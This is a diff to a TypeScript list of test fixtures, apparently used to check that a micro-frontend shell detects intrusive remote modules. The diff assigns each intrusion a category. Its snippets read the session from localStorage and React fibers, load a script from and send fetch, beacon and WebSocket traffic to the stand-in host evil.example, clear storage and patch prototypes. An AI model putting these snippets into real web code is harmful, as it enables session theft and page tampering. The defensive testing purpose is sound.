@@ -23,7 +23,7 @@ export const intrusionKinds: readonly Kind[] = [
   {
     name: 'adopted style sheet',
     wrong: 'adopts a style sheet for the whole document',
-    files: [],
+    files: ['shell-access'],
     spoil: code({
       effect:
         'const sheet=new CSSStyleSheet;sheet.replaceSync("header{display:none}");document.adoptedStyleSheets=[sheet]',
@@ -41,7 +41,7 @@ export const intrusionKinds: readonly Kind[] = [
   {
     name: 'clears the body',
     wrong: 'removes everything',
-    files: [],
+    files: ['shell-access'],
     spoil: code({ effect: 'document.body.replaceChildren()' }),
   },
   {
@@ -59,7 +59,7 @@ export const intrusionKinds: readonly Kind[] = [
   {
     name: 'overlay',
     wrong: 'lays an element over the page',
-    files: [],
+    files: ['shell-access'],
     spoil: code({
       effect:
         'const over=document.createElement("div");Object.assign(over.style,{position:"fixed",inset:0,zIndex:99999});document.body.append(over)',
@@ -68,7 +68,7 @@ export const intrusionKinds: readonly Kind[] = [
   {
     name: 'patches Array.prototype.map',
     wrong: 'replaces a method of all arrays',
-    files: [],
+    files: ['intrinsic'],
     spoil: code({
       module: 'const map=Array.prototype.map;Array.prototype.map=function(...given){return map.apply(this,given)}',
     }),
@@ -76,13 +76,13 @@ export const intrusionKinds: readonly Kind[] = [
   {
     name: 'adds to Object.prototype',
     wrong: 'gives every object a property',
-    files: [],
+    files: ['intrinsic'],
     spoil: code({ module: 'Object.defineProperty(Object.prototype,"probe",{value:1,configurable:true})' }),
   },
   {
     name: 'patches history',
     wrong: 'replaces how the shell changes addresses',
-    files: [],
+    files: ['intrinsic'],
     spoil: code({
       module: 'const push=history.pushState;history.pushState=function(...given){return push.apply(this,given)}',
     }),
@@ -90,52 +90,52 @@ export const intrusionKinds: readonly Kind[] = [
   {
     name: 'writes the history',
     wrong: 'changes the address by itself',
-    files: [],
+    files: ['shell-access'],
     spoil: code({ effect: 'history.replaceState(null,"","/slots")' }),
   },
   {
     name: 'sets the title',
     wrong: 'sets the title of the page',
-    files: [],
+    files: ['shell-access'],
     spoil: code({ effect: 'document.title="Probe wins"' }),
   },
   {
     name: 'reload loop',
     wrong: 'loads the page again, and again',
-    files: [],
+    files: ['shell-access'],
     spoil: code({ effect: 'setTimeout(()=>location.reload(),50)' }),
   },
   {
     name: 'overwrites storage',
     wrong: 'overwrites what the shell keeps',
-    files: [],
+    files: ['shell-access'],
     spoil: code({ effect: 'localStorage.setItem("marquee.session","{}")' }),
   },
   {
     name: 'clears storage',
     wrong: 'removes what the shell keeps',
-    files: [],
+    files: ['shell-access'],
     spoil: code({ effect: 'localStorage.clear()' }),
   },
   {
     name: 'reads the session',
     wrong: 'reads the session from storage',
-    files: [],
-    spoil: code({ effect: 'globalThis.probeSeen=localStorage.getItem("marquee.session")' }),
+    files: ['shell-access'],
+    spoil: code({ effect: 'const seen=localStorage.getItem("marquee.session")' }),
   },
   {
     name: 'reads React’s fibers',
     wrong: 'reads the session out of the shell’s components',
-    files: [],
+    files: ['shell-access'],
     spoil: code({
       effect:
-        'const node=document.querySelector("header");const key=Object.keys(node).find((name)=>name.startsWith("__reactFiber$"));globalThis.probeSeen=node[key]',
+        'const node=document.querySelector("header");const key=Object.keys(node).find((name)=>name.startsWith("__reactFiber$"));const seen=node[key]',
     }),
   },
   {
     name: 'script of another host',
     wrong: 'sends what it has read away by a script’s address',
-    files: [],
+    files: ['foreign-origin'],
     spoil: code({
       effect:
         'try{const s=document.createElement("script");s.src="https://evil.example/a.js?t=1";document.head.append(s)}catch{}',
@@ -144,19 +144,19 @@ export const intrusionKinds: readonly Kind[] = [
   {
     name: 'leaves the site',
     wrong: 'sends the player to another site',
-    files: [],
+    files: ['foreign-origin'],
     spoil: code({ effect: 'setTimeout(()=>{location.href="https://evil.example/?t=1"},50)' }),
   },
   {
     name: 'opens a window',
     wrong: 'opens a window of another site',
-    files: [],
+    files: ['foreign-origin'],
     spoil: code({ effect: 'open("https://evil.example/?t=1")' }),
   },
   {
     name: 'asks another host',
     wrong: 'sends requests to another host',
-    files: [],
+    files: ['foreign-origin'],
     spoil: code({ effect: 'fetch("https://evil.example/?t=1").catch(()=>{})' }),
   },
   {
@@ -168,19 +168,19 @@ export const intrusionKinds: readonly Kind[] = [
   {
     name: 'beacon',
     wrong: 'sends a beacon to another host',
-    files: [],
+    files: ['foreign-origin'],
     spoil: code({ effect: 'navigator.sendBeacon("https://evil.example/","t")' }),
   },
   {
     name: 'socket',
     wrong: 'opens a socket to another host',
-    files: [],
+    files: ['foreign-origin'],
     spoil: code({ effect: 'try{new WebSocket("wss://evil.example/")}catch{}' }),
   },
   {
     name: 'patches fetch',
     wrong: 'replaces the page’s fetch; another remote is blamed for what fails',
-    files: [],
+    files: ['intrinsic'],
     spoil: code({ module: 'globalThis.fetch=()=>Promise.reject(Error("spoiled fetch"))' }),
   },
   {
@@ -195,26 +195,31 @@ export const intrusionKinds: readonly Kind[] = [
   {
     name: 'overwrites a container',
     wrong: 'puts itself in the place of another remote',
-    files: [],
+    files: ['global'],
     spoil: code({ entry: 'globalThis.marquee_slots_1_0_0={init(){},get:async()=>()=>({LobbyPage:()=>"Probe"})}' }),
   },
-  { name: 'cookies', wrong: 'writes cookies', files: [], spoil: code({ effect: 'document.cookie="probe=1"' }) },
+  {
+    name: 'cookies',
+    wrong: 'writes cookies',
+    files: ['shell-access'],
+    spoil: code({ effect: 'document.cookie="probe=1"' }),
+  },
   {
     name: 'service worker',
     wrong: 'registers a service worker',
-    files: [],
+    files: ['shell-access'],
     spoil: code({ effect: 'navigator.serviceWorker.register("/sw.js").catch(()=>{})' }),
   },
   {
     name: 'writes the document',
     wrong: 'writes markup into the document',
-    files: [],
+    files: ['shell-access'],
     spoil: code({ effect: 'try{document.write("<p>Probe")}catch{}' }),
   },
   {
     name: 'locks the page',
     wrong: 'stops the page from being scrolled',
-    files: [],
+    files: ['shell-access'],
     spoil: code({ effect: 'document.documentElement.style.overflow="hidden"' }),
   },
   {
@@ -235,7 +240,7 @@ export const intrusionKinds: readonly Kind[] = [
   {
     name: 'global of its own',
     wrong: 'leaves a global that is no bundler’s',
-    files: [],
+    files: ['global'],
     spoil: code({ module: 'globalThis.config={probe:1}' }),
   },
 ];
